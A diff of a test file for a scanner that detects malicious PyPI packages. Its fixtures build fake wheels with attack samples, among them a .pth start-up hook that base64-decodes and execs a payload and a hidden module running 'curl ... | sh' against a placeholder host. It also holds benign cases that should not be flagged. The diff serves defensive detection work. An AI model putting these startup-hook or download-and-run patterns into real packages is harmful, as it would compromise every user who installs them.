@@ -75,7 +75,8 @@ describe('scan: PyPI attack shapes', () => {
         'safe_run()',
       ].join('\n'),
     });
-    expect(summary(r)).toEqual(expect.arrayContaining(['high code-download-exec yolo/utils/downloads.py:8', 'medium code-silent-exec yolo/utils/downloads.py:8']));
+    // Made executable on line 7, run hidden from a temp folder on line 8.
+    expect(summary(r)).toEqual(['high code-download-exec yolo/utils/downloads.py:7', 'medium code-silent-exec yolo/utils/downloads.py:8', 'medium code-suspicious-exec yolo/utils/downloads.py:8']);
     expect(r.findings[0]!.message).toContain('runs on import');
   });
 
@@ -86,6 +87,16 @@ describe('scan: PyPI attack shapes', () => {
       'litellm_init.pth': `import subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('${b64(payload)}'))"])\n`,
     });
     expect(summary(r)).toEqual(expect.arrayContaining(['critical code-exfiltration litellm_init.pth:1', 'critical code-remote-eval litellm_init.pth:1', 'critical code-startup-hook litellm_init.pth:1']));
+  });
+
+  it('a .pth that imports a module of its package makes that module start-up code', async () => {
+    const payload = "import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'curl -s https://example.invalid/p | sh'])";
+    const r = await wheel({
+      'helper_init.pth': 'import _helper_boot; _helper_boot.install()\n',
+      '_helper_boot.py': `import base64\ndef install():\n    pass\nexec(base64.b64decode('${b64(payload)}'))\n`,
+    });
+    expect(summary(r)).toEqual(['critical code-download-exec _helper_boot.py:4', 'critical code-remote-eval _helper_boot.py:4']);
+    expect(r.findings[0]!.message).toContain('runs at every Python start');
   });
 
   it('a .pth that only adds paths, as every editable install writes, is not a finding', async () => {
@@ -201,6 +212,23 @@ describe('scan: PyPI code that is not an attack', () => {
       ].join('\n'),
       'pkg/__init__.py': "from .__version__ import __version__\n",
       'pkg/__version__.py': "__version__ = '1.0'\n",
+    });
+    expect(summary(r)).toEqual([]);
+  });
+
+  it('names are per function: a copied environment in one function is not the request body of another', async () => {
+    const r = await wheel({
+      'tool/__init__.py': [
+        'import os, subprocess, requests, builtins',
+        'def build():',
+        '    data = dict(os.environ)',
+        "    subprocess.run(['make'], env=data)",
+        'def report(url):',
+        "    data = {'status': 'ok'}",
+        '    requests.post(url, data=data, env=os.environ) if False else requests.post(url, data=data)',
+        'def rebuild(name, err):',
+        "    return getattr(builtins, name.decode('ascii'), Exception)(err)",
+      ].join('\n'),
     });
     expect(summary(r)).toEqual([]);
   });
